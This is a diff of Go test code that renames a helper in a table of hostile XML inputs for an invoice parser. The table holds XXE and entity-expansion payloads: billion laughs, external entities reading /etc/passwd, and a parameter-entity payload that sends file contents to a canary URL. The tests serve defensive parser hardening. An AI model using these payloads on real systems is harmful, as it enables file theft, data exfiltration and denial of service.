@@ -41,8 +41,8 @@ const parseRoot = `<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:
 // inInvoice puts content into the root of an invoice.
 func inInvoice(content string) string { return parseRoot + content + "</Invoice>" }
 
-// typed is an invoice with a document type, whose note is an entity of it.
-func typed(subset, note string) func() string {
+// withEntities is an invoice with a document type, whose note is an entity of it.
+func withEntities(subset, note string) func() string {
 	return fixed("<!DOCTYPE Invoice " + subset + ">" + inInvoice("<cbc:Note>"+note+"</cbc:Note>"))
 }
 
@@ -57,23 +57,23 @@ func entities(bird *canary) []hostile {
 		return b.String() + "]"
 	}
 	return []hostile{
-		{"billion laughs", typed(laughs("&l%d;"), "&l9;")},
-		{"billion laughs by parameter", typed(strings.ReplaceAll(laughs("&#37;l%d;"), "<!ENTITY ", "<!ENTITY % "), "x")},
-		{"quadratic blow-up", typed(`[<!ENTITY a "`+strings.Repeat("a", 100_000)+`">]`, strings.Repeat("&a;", 50_000))},
-		{"entity that is itself", typed(`[<!ENTITY a "&a;">]`, "&a;")},
-		{"external file", typed(`[<!ENTITY a SYSTEM "file://`+bird.file+`">]`, "&a;")},
-		{"external password file", typed(`[<!ENTITY a SYSTEM "file:///etc/passwd">]`, "&a;")},
-		{"external endless file", typed(`[<!ENTITY a SYSTEM "file:///dev/zero">]`, "&a;")},
-		{"external address", typed(`[<!ENTITY a SYSTEM "`+bird.url+`/a">]`, "&a;")},
-		{"external parameter", typed(`[<!ENTITY % a SYSTEM "`+bird.url+`/a"> %a;]`, "x")},
-		{"external parameter that tells", typed(`[<!ENTITY % f SYSTEM "file://`+bird.file+`"><!ENTITY % a "<!ENTITY &#37; b SYSTEM '`+bird.url+`/?%f;'>">%a;%b;]`, "x")},
-		{"external subset", typed(`SYSTEM "`+bird.url+`/a.dtd"`, "x")},
-		{"external subset, public", typed(`PUBLIC "-//X//Y" "`+bird.url+`/a.dtd"`, "x")},
-		{"external, PHP filter", typed(`[<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=`+bird.file+`">]`, "&a;")},
-		{"external, jar", typed(`[<!ENTITY a SYSTEM "jar:`+bird.url+`/a!/b">]`, "&a;")},
-		{"external, net document", typed(`[<!ENTITY a SYSTEM "netdoc://`+bird.file+`">]`, "&a;")},
-		{"unparsed", typed(`[<!NOTATION n SYSTEM "`+bird.url+`"><!ENTITY a SYSTEM "`+bird.url+`" NDATA n>]`, "x")},
-		{"attribute by default", typed(`[<!ATTLIST cbc:Note languageID CDATA "ar">]`, "x")},
+		{"billion laughs", withEntities(laughs("&l%d;"), "&l9;")},
+		{"billion laughs by parameter", withEntities(strings.ReplaceAll(laughs("&#37;l%d;"), "<!ENTITY ", "<!ENTITY % "), "x")},
+		{"quadratic blow-up", withEntities(`[<!ENTITY a "`+strings.Repeat("a", 100_000)+`">]`, strings.Repeat("&a;", 50_000))},
+		{"entity that is itself", withEntities(`[<!ENTITY a "&a;">]`, "&a;")},
+		{"external file", withEntities(`[<!ENTITY a SYSTEM "file://`+bird.file+`">]`, "&a;")},
+		{"external password file", withEntities(`[<!ENTITY a SYSTEM "file:///etc/passwd">]`, "&a;")},
+		{"external endless file", withEntities(`[<!ENTITY a SYSTEM "file:///dev/zero">]`, "&a;")},
+		{"external address", withEntities(`[<!ENTITY a SYSTEM "`+bird.url+`/a">]`, "&a;")},
+		{"external parameter", withEntities(`[<!ENTITY % a SYSTEM "`+bird.url+`/a"> %a;]`, "x")},
+		{"external parameter that tells", withEntities(`[<!ENTITY % f SYSTEM "file://`+bird.file+`"><!ENTITY % a "<!ENTITY &#37; b SYSTEM '`+bird.url+`/?%f;'>">%a;%b;]`, "x")},
+		{"external subset", withEntities(`SYSTEM "`+bird.url+`/a.dtd"`, "x")},
+		{"external subset, public", withEntities(`PUBLIC "-//X//Y" "`+bird.url+`/a.dtd"`, "x")},
+		{"external, PHP filter", withEntities(`[<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=`+bird.file+`">]`, "&a;")},
+		{"external, jar", withEntities(`[<!ENTITY a SYSTEM "jar:`+bird.url+`/a!/b">]`, "&a;")},
+		{"external, net document", withEntities(`[<!ENTITY a SYSTEM "netdoc://`+bird.file+`">]`, "&a;")},
+		{"unparsed", withEntities(`[<!NOTATION n SYSTEM "`+bird.url+`"><!ENTITY a SYSTEM "`+bird.url+`" NDATA n>]`, "x")},
+		{"attribute by default", withEntities(`[<!ATTLIST cbc:Note languageID CDATA "ar">]`, "x")},
 		{"document type in small letters", fixed("<!doctype Invoice>" + inInvoice(""))},
 		{"document type behind a comment", fixed("<!-- a --><!DOCTYPE Invoice>" + inInvoice(""))},
 		{"document type in the root", fixed(inInvoice("<!DOCTYPE Invoice>"))},
